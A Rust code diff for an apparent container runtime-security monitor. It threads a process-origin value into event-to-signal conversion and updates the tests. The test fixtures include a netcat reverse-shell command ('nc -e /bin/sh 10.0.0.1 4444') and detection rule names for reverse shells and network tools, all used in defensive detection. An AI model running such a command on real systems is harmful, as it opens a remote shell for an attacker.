@@ -34,8 +34,14 @@ const TEMPORARY: [&str; 4] = ["/tmp", "/var/tmp", "/dev/shm", "/run"];
 
 const CRI: &str = "io.kubernetes.cri.";
 
-/// The signal of an event. The container is `None` when it has no record.
-pub fn from_event(event: &Event, container: Option<&Container>, tools: &Tools, offset: BootOffset) -> v1::Signal {
+/// The signal of an event. The container is `None` when it has no record; `origin` is how the process came to be there.
+pub fn from_event(
+    event: &Event,
+    origin: v1::Origin,
+    container: Option<&Container>,
+    tools: &Tools,
+    offset: BootOffset,
+) -> v1::Signal {
     let (tool, severity) = tool_message(event, tools);
     let record = container.map(|container| container.record.as_ref());
     let verdict = verdict(event.verdict);
@@ -95,11 +101,7 @@ pub fn from_event(event: &Event, container: Option<&Container>, tools: &Tools, o
         }),
         lineage: event.lineage.iter().map(|ancestor| ancestor_message(ancestor, offset)).collect(),
         lineage_truncated: event.flags & (flags::LINEAGE_TRUNCATED | flags::EVENT_REDUCED) != 0,
-        origin: if event.flags & flags::EXEC_SESSION == 0 {
-            v1::Origin::Container.into()
-        } else {
-            v1::Origin::ExecSession.into()
-        },
+        origin: origin.into(),
         policy: tools
             .policy_name(event)
             .or_else(|| container.map(|container| container.standing.policy.clone()))
@@ -403,7 +405,7 @@ mod tests {
     fn an_event_becomes_a_signal() {
         let tools = tools();
         let event = testing::event(42, tool_id("nc"), 10);
-        let signal = from_event(&event, Some(&container(42)), &tools, BootOffset::now());
+        let signal = from_event(&event, v1::Origin::Container, Some(&container(42)), &tools, BootOffset::now());
         assert_eq!(signal.message, "nc (netcat) blocked in container c1: nc -e /bin/sh 10.0.0.1 4444");
         assert_eq!(signal.rule, "net_util_in_container");
         assert_eq!(signal.verdict(), v1::Verdict::Blocked);
@@ -426,7 +428,7 @@ mod tests {
     fn an_exec_in_a_locked_container_is_no_rules_business() {
         let mut event = testing::event(42, Behaviour::Locked as u32, 10);
         (event.rule, event.identified_by) = (abi::NO_RULE, 0);
-        let signal = from_event(&event, Some(&container(42)), &tools(), BootOffset::now());
+        let signal = from_event(&event, v1::Origin::Container, Some(&container(42)), &tools(), BootOffset::now());
         assert_eq!((signal.rule.as_str(), signal.policy_rule, signal.severity()), ("locked", 0, v1::Severity::Medium));
         let said = "exec blocked because an operator has locked the container c1: nc -e /bin/sh 10.0.0.1 4444";
         assert_eq!(signal.message, said);
@@ -440,7 +442,7 @@ mod tests {
         event.exe = b"/dev/shm/x".to_vec();
         event.place = place::UPPER_LAYER;
         event.remote = Some("[::ffff:10.0.0.1]:4444".parse().unwrap());
-        let signal = from_event(&event, None, &tools, BootOffset::now());
+        let signal = from_event(&event, v1::Origin::Container, None, &tools, BootOffset::now());
         assert_eq!(signal.rule, "reverse_shell");
         assert_eq!(signal.severity(), v1::Severity::High);
         assert_eq!(signal.remote, Some(v1::Endpoint { address: "10.0.0.1".into(), port: 4444 }));
@@ -450,13 +452,13 @@ mod tests {
         event.exe = b"/tmpfiles/x".to_vec();
         event.place = 0;
         event.remote = Some("10.0.0.1:0".parse().unwrap());
-        let signal = from_event(&event, None, &tools, BootOffset::now());
+        let signal = from_event(&event, v1::Origin::Container, None, &tools, BootOffset::now());
         assert!(signal.remote.is_none() && signal.process.unwrap().places.is_empty());
 
         event.tool = tool_id("shell_socket");
         (event.hook, event.verdict) = (Hook::TcpConnect, Verdict::WouldBlock);
         event.remote = Some("10.0.0.1:53".parse().unwrap());
-        let signal = from_event(&event, None, &tools, BootOffset::now());
+        let signal = from_event(&event, v1::Origin::Container, None, &tools, BootOffset::now());
         let told = "shell_socket (behaviour) seen (enforce mode would block it) in container with cgroup 42, connecting to \
                     10.0.0.1:53: ";
         assert!(signal.message.starts_with(told), "{}", signal.message);
@@ -470,7 +472,8 @@ mod tests {
         // Wherever the container is by now.
         let known = Known::new(catalog.clone(), [(1, meaning("first")), (2, meaning("other"))].into());
         let event = Event { rule: 4, ..testing::event(42, tool_id("nc"), 10) };
-        let signal = from_event(&event, Some(&container(42)), &Tools::new(known), BootOffset::now());
+        let signal =
+            from_event(&event, v1::Origin::Container, Some(&container(42)), &Tools::new(known), BootOffset::now());
         assert_eq!((signal.policy.as_str(), signal.policy_rule), ("first", 5));
     }
 
@@ -479,14 +482,14 @@ mod tests {
         let tools = tools();
         let mut event = testing::event(42, u32::MAX, 10);
         event.argv = vec![b"\xff\x1b[2J".to_vec(), b"a b".to_vec()];
-        event.flags = flags::ARGV_TRUNCATED | flags::EXEC_SESSION;
-        let signal = from_event(&event, None, &tools, BootOffset::now());
+        event.flags = flags::ARGV_TRUNCATED;
+        let signal = from_event(&event, v1::Origin::Probe, None, &tools, BootOffset::now());
         assert_eq!(
             signal.message,
             format!("tool-{} (unknown) blocked in container with cgroup 42: \u{fffd}\\u{{1b}}[2J 'a b' …", u32::MAX)
         );
         assert_eq!(signal.process.unwrap().argv[0], "\u{fffd}\x1b[2J");
-        assert_eq!(signal.origin, i32::from(v1::Origin::ExecSession));
+        assert_eq!(signal.origin, i32::from(v1::Origin::Probe));
     }
 
     #[test]
